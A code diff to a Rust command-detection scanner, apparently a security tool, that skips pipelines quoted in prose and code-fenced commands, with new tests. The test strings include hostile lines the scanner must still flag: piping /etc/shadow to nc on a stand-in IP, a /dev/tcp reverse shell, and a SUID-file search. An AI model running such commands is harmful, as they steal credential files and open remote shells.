@@ -2160,6 +2160,14 @@ fn check_command_at(
     if w.spliced && !w.quoted && ctx == Ctx::Subst {
         args.shellish = true;
     }
+    // `grep -r TODO src | wc -l gives me 42`: a pipeline quoted at the start
+    // of a sentence that goes on in English after the pipe.
+    if matches!(effective, Ctx::Start | Ctx::Weak)
+        && !args.strong
+        && pipe_into_prose(text, args.end, seg_end)
+    {
+        return false;
+    }
     if !decide(cmd, effective, &args) {
         return false;
     }
@@ -2262,6 +2270,42 @@ fn check_variable_command(
         }
     }
     false
+}
+
+/// Whether a `|` at `at` (after blanks) leads into the rest of a line that
+/// is a sentence: plain words, a function word among them, and no shell
+/// syntax beyond options and numbers.
+fn pipe_into_prose(text: &str, at: usize, seg_end: usize) -> bool {
+    let b = text.as_bytes();
+    let p = at
+        + b[at.min(seg_end)..seg_end]
+            .iter()
+            .take_while(|&&c| c == b' ' || c == b'\t')
+            .count();
+    if b.get(p) != Some(&b'|') || b.get(p + 1) == Some(&b'|') {
+        return false;
+    }
+    let end = memchr::memchr(b'\n', &b[p + 1..seg_end]).map_or(seg_end, |o| p + 1 + o);
+    let tail = &text[p + 1..end.min(p + 1 + 200)];
+    if tail.bytes().any(|c| {
+        matches!(
+            c,
+            b';' | b'&' | b'|' | b'>' | b'<' | b'`' | b'$' | b'/' | b'\\'
+        )
+    }) {
+        return false;
+    }
+    let mut words = 0;
+    let mut stops = 0;
+    for t in tail.split_ascii_whitespace() {
+        if t.bytes().all(|c| c.is_ascii_alphabetic()) {
+            words += 1;
+            if STOP_WORDS.iter().any(|s| t.eq_ignore_ascii_case(s)) {
+                stops += 1;
+            }
+        }
+    }
+    stops >= 1 && words >= 3
 }
 
 /// The most values a line's variables may expand to.
@@ -2784,6 +2828,8 @@ fn scan_segment(
     // of `$x` costs a bounded number of look-backs.
     let mut last_eq: Option<usize> = None;
     let mut assembled = 0u8;
+    // Inside a markdown code fence: lines there are documentation.
+    let mut in_fence = false;
     let mut i = seg_start;
     while i < seg_end {
         i = triggers.next(b, i);
@@ -2806,7 +2852,10 @@ fn scan_segment(
                 while j < seg_end && matches!(b[j], b'\n' | b'\r') {
                     j += 1;
                 }
-                check_command(text, i, j, seg_end, Ctx::Weak, hits);
+                // A line in a code fence shows a command, as a code span
+                // in prose does: only hostile content counts there.
+                let ctx = if in_fence { Ctx::Span } else { Ctx::Weak };
+                check_command(text, i, j, seg_end, ctx, hits);
                 i = j;
             }
             b'$' => {
@@ -2905,6 +2954,7 @@ fn scan_segment(
                 while i < seg_end && b[i] == b'`' {
                     i += 1;
                 }
+                in_fence = !in_fence;
             }
             b'`' => {
                 let close = b[i + 1..seg_end].iter().take(400).position(|&y| y == b'`');
@@ -4104,6 +4154,25 @@ mod tests {
         ] {
             assert!(rules(t).contains(&"cmdi-jndi"), "missed {t:?}");
         }
+    }
+
+    #[test]
+    fn pipelines_quoted_in_sentences() {
+        assert!(!flagged("ps aux | grep node shows it is still running"));
+        assert!(flagged("ps aux | nc 203.0.113.7 4444"));
+        assert!(flagged("find / -perm -4000 | xargs ls -la"));
+    }
+
+    #[test]
+    fn code_fences_show_commands() {
+        assert!(!flagged(
+            "Setup:\n\n```bash\nnpm install --save-dev jest\n```\nthen run it"
+        ));
+        assert!(!flagged("```\ncargo build --release\n```"));
+        assert!(flagged("```sh\ncat /etc/shadow | nc 203.0.113.7 4444\n```"));
+        assert!(flagged(
+            "```sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```"
+        ));
     }
 
     #[test]
